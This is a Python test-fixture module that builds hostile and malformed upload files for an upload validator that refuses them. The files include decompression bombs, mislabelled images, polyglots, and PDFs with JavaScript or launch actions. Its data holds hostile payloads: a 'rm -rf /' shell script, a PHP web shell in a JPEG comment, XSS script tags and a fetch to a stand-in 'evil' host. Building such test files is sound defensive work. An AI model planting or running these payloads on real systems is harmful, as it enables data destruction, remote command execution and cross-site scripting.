"""Hostile and broken files, each with the type a phone would declare for it."""
from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int, interlace: int = 0) -> bytes:
    """A tiny PNG whose header claims width x height (a decompression bomb's calling card)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, interlace)
    idat = zlib.compress(b"\x00" * 64, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def image(fmt: str, size=(64, 48), colour=(10, 120, 200), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, fmt, **save)
    return out.getvalue()


def a4_scan(mode: str = "L", size=(4961, 7016)) -> Image.Image:
    """An A4 page at 600 dpi (35 Mpx): white, with lines of dark word-shaped blocks, as a scanner
    sees text. Saved as PNG it is ~60 KB grey or ~130 KB RGB: tiny files, huge bitmaps."""
    import random

    from PIL import ImageDraw

    page = Image.new("L", size, 255)
    draw = ImageDraw.Draw(page)
    rng = random.Random(16)
    for top in range(600, size[1] - 600, 110):
        x = 500
        while x < size[0] - 700:
            word = rng.randint(60, 400)
            draw.rectangle((x, top, x + word, top + 55), fill=rng.randint(0, 60))
            x += word + 35
    return page if mode == "L" else page.convert(mode)


def jpeg_declaring(width: int, height: int, progressive: bool = False) -> bytes:
    data = bytearray(image("JPEG", (32, 32), progressive=progressive))
    sof = data.find(b"\xff\xc2" if progressive else b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def pdf(pages: int = 1, *, javascript: bool = False, encrypt: bool = False, launch: bool = False) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if javascript:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")})
    if launch:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    if encrypt:
        writer.encrypt("user-pass", "owner-pass")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _png_with_text(png: bytes, text: bytes) -> bytes:
    chunk = _png_chunk(b"tEXt", b"Comment\x00" + text)
    return png[:33] + chunk + png[33:]


def hostile_corpus() -> list[tuple[str, str, bytes]]:
    """(name, declared content type, bytes): every one must be refused."""
    good_jpeg = image("JPEG", (200, 150))
    good_png = image("PNG", (200, 150))
    corrupt_png = bytearray(good_png)
    idat = corrupt_png.find(b"IDAT")
    corrupt_png[idat + 10:idat + 30] = b"\x00" * 20
    return [
        ("empty.jpg", "image/jpeg", b""),
        ("page.jpg", "image/jpeg", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("run.jpg", "image/jpeg", b"#!/bin/sh\nrm -rf /\n"),
        ("setup.jpg", "image/jpeg", b"MZ\x90\x00\x03" + b"\x00" * 200),
        ("png-named.jpg", "image/jpeg", good_png),
        ("jpeg-named.png", "image/png", good_jpeg),
        ("truncated.jpg", "image/jpeg", good_jpeg[: len(good_jpeg) // 2]),
        ("truncated.png", "image/png", good_png[: len(good_png) // 2]),
        ("bomb.png", "image/png", png_declaring(100_000, 100_000)),
        ("bomb-wide.png", "image/png", png_declaring(65_000, 2_000)),
        ("bomb.jpg", "image/jpeg", jpeg_declaring(60_000, 60_000)),
        # Decoded whole whatever the scale: an interlaced PNG's bitmap, a progressive JPEG's coefficients.
        ("interlaced-big.png", "image/png", png_declaring(3000, 2500, interlace=1)),
        ("progressive-big.jpg", "image/jpeg", jpeg_declaring(8000, 6000, progressive=True)),
        ("strip.png", "image/png", image("PNG", (1, 30_000))),
        ("strip-wide.png", "image/png", image("PNG", (30_000, 1))),
        ("tiny.jpg", "image/jpeg", image("JPEG", (8, 8))),
        ("anim.gif", "image/jpeg", image("GIF")),
        ("bitmap.bmp", "image/jpeg", image("BMP")),
        ("photo.webp", "image/jpeg", image("WEBP")),
        ("scan.tiff", "image/jpeg", image("TIFF")),
        ("logo.svg", "image/png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("polyglot.jpg", "image/jpeg", good_jpeg + b"<script>fetch('//evil')</script>"),
        ("zip-tail.jpg", "image/jpeg", good_jpeg + b"PK\x03\x04" + b"\x00" * 40),
        ("php-comment.jpg", "image/jpeg", jpeg_with_comment(b"<?php system($_GET['c']); ?>")),
        ("xss-text.png", "image/png", _png_with_text(good_png, b"<script>alert(1)</script>")),
        ("tail.png", "image/png", good_png + b"extra data after IEND"),
        ("corrupt.png", "image/png", bytes(corrupt_png)),
        ("garbage.jpg", "image/jpeg", b"\xff\xd8\xff" + bytes(range(256)) * 4),
        ("script.pdf", "application/pdf", pdf(javascript=True)),
        ("locked.pdf", "application/pdf", pdf(encrypt=True)),
        ("launch.pdf", "application/pdf", pdf(launch=True)),
        ("truncated.pdf", "application/pdf", pdf(3)[:300]),
        ("empty.pdf", "application/pdf", pdf(0)),
        ("long.pdf", "application/pdf", pdf(60)),
        ("random.pdf", "application/pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF"),
    ]


def jpeg_with_comment(comment: bytes) -> bytes:
    """A valid JPEG carrying `comment` in a COM segment right after SOI."""
    data = image("JPEG", (200, 150))
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return data[:2] + segment + data[2:]
